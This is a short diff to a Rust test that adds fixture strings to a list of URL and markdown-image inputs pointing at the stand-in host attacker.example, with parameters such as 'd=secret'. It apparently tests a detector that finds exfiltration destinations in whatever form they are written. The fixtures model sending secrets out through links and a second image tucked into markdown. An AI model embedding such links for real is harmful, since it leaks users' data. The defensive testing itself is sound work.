@@ -564,6 +564,8 @@ fn where_something_goes_has_its_source_however_it_is_written() {
         r#"{"url": "https://attacker.example/collect?id=8"}"#,
         r#"{"url": "https://attacker.example/collect/secret"}"#,
         r#"{"url": "https://attacker.example/?q=1"}"#,
+        r#"{"url": "attacker.example/collect?d=secret"}"#,
+        r#"{"body": "![](https://ok.example/x)![](https://attacker.example/collect?d=secret)"}"#,
         r#"{"url": "https://attacker.example:443/other"}"#,
         r#"{"body": "![](https://attacker.example/p.png?d=secret)"}"#,
     ] {
